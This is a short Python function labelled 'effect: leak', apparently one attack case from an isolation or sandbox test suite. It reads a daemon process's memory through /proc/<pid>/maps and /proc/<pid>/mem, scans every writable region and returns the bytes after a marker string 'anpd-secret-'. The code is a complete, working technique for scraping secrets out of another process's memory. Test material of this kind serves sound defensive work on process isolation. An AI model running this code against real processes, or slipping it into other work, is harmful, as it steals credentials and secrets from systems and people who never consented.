# effect: leak
# note: /proc/<pid>/mem
def attempt(probe):
    pid = probe["daemon"]
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in open(f"/proc/{pid}/maps"):
            span, rights, *_ = line.split()
            start, end = (int(part, 16) for part in span.split("-"))
            if not rights.startswith("rw") or end - start > 1 << 26:
                continue
            memory.seek(start)
            found = memory.read(end - start)
            at = found.find(b"anpd-secret-")
            if at >= 0:
                return found[at : at + 60]
